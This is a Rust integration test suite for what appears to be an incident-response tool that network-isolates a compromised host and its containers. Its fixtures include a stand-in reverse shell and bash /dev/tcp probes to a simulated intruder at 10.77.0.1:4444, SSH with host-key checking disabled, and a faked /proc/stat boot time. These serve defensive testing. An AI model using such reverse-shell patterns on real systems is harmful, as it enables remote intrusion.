//! Containers of a victim: they are named, cut with the machine whichever way they reach the network,
//! and frozen whole; and what is told after a cut is what was tried.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use stanch_range::{Ran, Victim, debian, possible};

const CASE: [&str; 2] = ["--case", "/run/range/case"];
const STANCH: &str = "/run/range/stanch --case /run/range/case";
/// The responder's address; the intruder has the peer's first one.
const RESPONDER: &str = "10.77.0.9";
const ID: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

/// Three ways in which containers reach the network: routed behind a bridge of the machine, a
/// macvlan device over its card, and the machine's own network. Each is a process in a control group
/// as Docker makes them.
const CONTAINERS: &str = r#"
    mount -t cgroup2 none /sys/fs/cgroup; echo 1 > /proc/sys/net/ipv4/ip_forward
    ip route add default via 10.77.0.1
    box() {
        group=/sys/fs/cgroup/docker-range-$1; mkdir -p $group
        setsid --fork unshare $3 sh -c "echo \$\$ > /run/range/$1.pid; exec sleep 900" \
            </dev/null >/dev/null 2>&1
        sleep 0.5; cat /run/range/$1.pid > $group/cgroup.procs
    }
    box bridged x --net; box macvlan x --net
    bridged=$(cat /run/range/bridged.pid); macvlan=$(cat /run/range/macvlan.pid)
    ip link add br0 type bridge; ip addr add 10.88.0.1/24 dev br0; ip link set br0 up
    ip link add c0 type veth peer name c1 netns $bridged; ip link set c0 master br0 up
    nsenter -t $bridged -n sh -ec 'ip addr add 10.88.0.2/24 dev c1; ip link set c1 up
        ip link set lo up; ip route add default via 10.88.0.1'
    ip link add m0 link eth0 type macvlan mode bridge; ip link set m0 netns $macvlan
    nsenter -t $macvlan -n sh -ec 'ip addr add 10.77.0.50/24 dev m0; ip link set m0 up
        ip link set lo up; ip route add default via 10.77.0.1'
"#;

fn victim() -> (Victim, std::process::Child) {
    let victim = Victim::boot(&debian().unwrap()).unwrap();
    victim.add_peer_address(&format!("{RESPONDER}/32")).unwrap();
    victim
        .shell(
            "ssh-keygen -q -t ed25519 -N '' -f /run/range/known; mkdir -p /root/.ssh
             cat /run/range/known.pub > /root/.ssh/authorized_keys; chmod -R go= /root/.ssh",
        )
        .unwrap();
    let sink = victim.spawn_on_peer(&["sink", "4444"]).unwrap();
    assert_eq!(victim.on_peer("ip route add 10.88.0.0/24 via 10.77.0.2").unwrap().code, 0);
    victim.shell(CONTAINERS).unwrap();
    (victim, sink)
}

/// Logs in from the responder's address and runs something there.
fn responder(victim: &Victim, command: &str) -> Ran {
    let client = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o ConnectTimeout=3 -o LogLevel=ERROR -o BatchMode=yes -i /run/range/known";
    let script = format!("ssh {client} -b {RESPONDER} root@10.77.0.2 '{command}' </dev/null");
    victim.on_peer(&script).unwrap()
}

/// Returns whether a container reaches the intruder.
fn reaches(victim: &Victim, name: &str) -> bool {
    let script = format!(
        "nsenter -t $(cat /run/range/{name}.pid) -n timeout 3 \
         bash -c ': >/dev/tcp/10.77.0.1/4444'"
    );
    victim.run(&["sh", "-c", &script]).unwrap().code == 0
}

fn end(victim: &Victim, mut sink: std::process::Child) {
    let groups = "for name in bridged macvlan; do kill -KILL $(cat /run/range/$name.pid); done
        for n in $(seq 50); do rmdir /sys/fs/cgroup/docker-*range* 2>/dev/null && break; sleep 0.1; done";
    let _best_effort = victim.run(&["sh", "-c", groups]).unwrap();
    sink.kill().unwrap();
    sink.wait().unwrap();
}

fn outcomes<'a>(told: &'a serde_json::Value, check: &str) -> Vec<&'a str> {
    let all = told["proofs"].as_array().unwrap().iter();
    all.filter(|one| one["check"] == check).map(|one| one["outcome"].as_str().unwrap()).collect()
}

#[test]
fn containers_of_every_kind_are_cut_and_what_is_told_was_tried() {
    if !possible() {
        return;
    }
    let (victim, sink) = victim();
    // A shell whose streams are a connection to the intruder, as it is left behind most.
    victim.start("shell", "/run/range/stand-in socket-shell 10.77.0.1:4444").unwrap();
    let shells = || {
        let ran = victim.run(&["ss", "-Htn", "state", "established", "dst", "10.77.0.1"]).unwrap();
        ran.out.lines().count()
    };
    assert_eq!(shells(), 1);
    assert!(reaches(&victim, "bridged") && reaches(&victim, "macvlan"), "both reach him before");
    let apply = format!("{STANCH} contain apply --yes --json --no-watch --rollback-after 120s");
    let applied = responder(&victim, &apply);
    assert_eq!(applied.code, 0, "{applied:?}");
    let told: serde_json::Value = serde_json::from_str(&applied.out).unwrap();
    assert_eq!(shells(), 0, "the reverse shell has ended");
    assert!(!reaches(&victim, "bridged"), "behind a bridge");
    assert!(!reaches(&victim, "macvlan"), "with a macvlan device");
    assert_eq!(responder(&victim, "echo in").out.trim(), "in");
    // What was tried, and what came of it.
    for check in ["rules", "counted", "way-in", "loopback"] {
        assert_eq!(outcomes(&told, check), ["holds"], "{check}: {told}");
    }
    assert!(outcomes(&told, "datagram").contains(&"holds"), "{told}");
    assert!(outcomes(&told, "frame").contains(&"holds"), "{told}");
    // The responder's own client lives in a third one here, whose traffic does not come by.
    let holding = outcomes(&told, "namespace").iter().filter(|&&one| one == "holds").count();
    assert!(holding >= 2, "{told}");
    assert!(!told["proofs"].to_string().contains("\"fails\""), "{told}");
    let kept = victim.shell(&format!("{STANCH} ledger show --json")).unwrap();
    assert!(kept.contains("contain.proved"), "{kept}");
    assert_eq!(responder(&victim, &format!("{STANCH} contain release")).code, 0);
    assert!(reaches(&victim, "bridged") && reaches(&victim, "macvlan"), "both are back");
    end(&victim, sink);
}

#[test]
fn a_cut_that_does_not_hold_is_told_so() {
    if !possible() {
        return;
    }
    let (victim, sink) = victim();
    let apply = format!("{STANCH} contain apply --yes --no-watch --rollback-after 120s");
    let applied = responder(&victim, &apply);
    assert!(applied.out.contains("Tried from inside"), "{applied:?}");
    assert!(applied.out.contains("is stopped at once"), "{applied:?}");
    assert!(!applied.out.contains("FAILS"), "{applied:?}");
    // After a reboot nothing of it is left: the kernel that held it is gone.
    let flushed = victim.outer_on_network(&["/usr/sbin/nft", "flush", "ruleset"]).unwrap();
    assert_eq!(flushed.code, 0, "{flushed:?}");
    let status = || victim.stanch(&[&CASE[..], &["contain", "status"]].concat()).unwrap().0;
    assert_eq!(status()["cut"], "removed");
    victim
        .shell(
            "sed \"s/^btime .*/btime $(($(date +%s) + 60))/\" /proc/stat > /run/range/stat
             mount --bind /run/range/stat /proc/stat",
        )
        .unwrap();
    assert_eq!(status()["cut"], "rebooted");
    let page = victim.shell(&format!("{STANCH} contain status")).unwrap();
    assert!(page.contains("started anew") && page.contains("stanch contain again"), "{page}");
    let all = victim.shell(STANCH).unwrap();
    assert!(all.contains("stanch contain status"), "{all}");
    let again = responder(&victim, &format!("{STANCH} contain again --yes --no-watch"));
    assert_eq!(again.code, 0, "{again:?}");
    assert!(again.out.contains("stanch contain confirm"), "{again:?}");
    victim.shell("umount /proc/stat").unwrap();
    let told = status();
    assert_eq!(told["cut"], "holds", "{told}");
    assert!((600..=900).contains(&told["cut_left_s"].as_u64().unwrap()), "{told}");
    assert!(!reaches(&victim, "macvlan"));
    let twice = responder(&victim, &format!("{STANCH} contain again --yes"));
    assert_eq!(twice.code, 2, "what holds is not done again: {twice:?}");
    assert_eq!(responder(&victim, &format!("{STANCH} contain release")).code, 0);
    victim.shell(&format!("{STANCH} ledger verify")).unwrap();
    end(&victim, sink);
}

#[test]
fn a_container_is_named_frozen_whole_and_thawed() {
    if !possible() {
        return;
    }
    let (victim, sink) = victim();
    let group = format!("/sys/fs/cgroup/docker-{ID}.scope");
    let busy = format!(
        "mkdir -p {group}; setsid --fork unshare --net bash -c 'echo $$ > /run/range/busy.pid
             while :; do date +%s.%N > /tmp/alive; sleep 0.05; done' </dev/null >/dev/null 2>&1
         sleep 0.5; cat /run/range/busy.pid > {group}/cgroup.procs"
    );
    victim.shell(&busy).unwrap();
    let is_alive = || {
        let script = "cat /tmp/alive; sleep 0.5; cat /tmp/alive";
        let told = victim.shell(script).unwrap();
        let mut lines = told.lines();
        lines.next() != lines.next()
    };
    assert!(is_alive());
    let plan = victim.shell(&format!("{STANCH} contain plan --console")).unwrap();
    assert!(plan.contains("docker 0123456789ab"), "it is named: {plan}");
    let none = victim.run(&[
        "sh",
        "-c",
        &format!("{STANCH} contain apply --yes --freeze-container 999999"),
    ]);
    let none = none.unwrap();
    assert_eq!(none.code, 4, "{none:?}");
    assert!(none.err.contains("0123456789ab"), "those that run are named: {none:?}");
    let freeze = ["contain", "apply", "--yes", "--freeze-container", "0123456789ab"];
    let (done, code) = victim.stanch(&[&CASE[..], &freeze].concat()).unwrap();
    assert_eq!(code, 0, "{done}");
    assert!(!is_alive(), "{done}");
    let act = done["acts"].as_array().unwrap().last().unwrap();
    assert_eq!((&act["state"], &act["step"]["act"]), (&"done".into(), &"freeze_container".into()));
    let undo = ["undo", act["id"].as_str().unwrap()];
    let (undone, code) = victim.stanch(&[&CASE[..], &undo].concat()).unwrap();
    assert_eq!(code, 0, "{undone}");
    assert!(is_alive(), "{undone}");
    let tidy = format!("kill -KILL $(cat /run/range/busy.pid); sleep 0.5; rmdir {group}");
    victim.shell(&tidy).unwrap();
    end(&victim, sink);
}

#[test]
fn without_root_a_plan_says_what_it_could_not_see() {
    if !possible() {
        return;
    }
    let victim = Victim::boot(&debian().unwrap()).unwrap();
    let user = "setpriv --reuid 33 --clear-groups --inh-caps=-all --bounding-set=-all \
                env HOME=/tmp /run/range/stanch contain plan";
    let told = victim.shell(user).unwrap();
    assert!(told.contains("Not seen without root"), "{told}");
    assert!(told.contains("by which connection you came in"), "{told}");
    let document = victim.shell(&format!("{user} --json --level blind")).unwrap();
    let document: serde_json::Value = serde_json::from_str(&document).unwrap();
    assert_eq!(document["id"], serde_json::Value::Null, "it is kept nowhere: {document}");
    assert_eq!(document["steps"][0]["act"], "isolate_network", "{document}");
    let apply = user.replace("contain plan", "contain apply --yes");
    let refused = victim.run(&["sh", "-c", &apply]).unwrap();
    assert_eq!(refused.code, 4, "{refused:?}");
    assert!(refused.err.contains("root"), "{refused:?}");
}
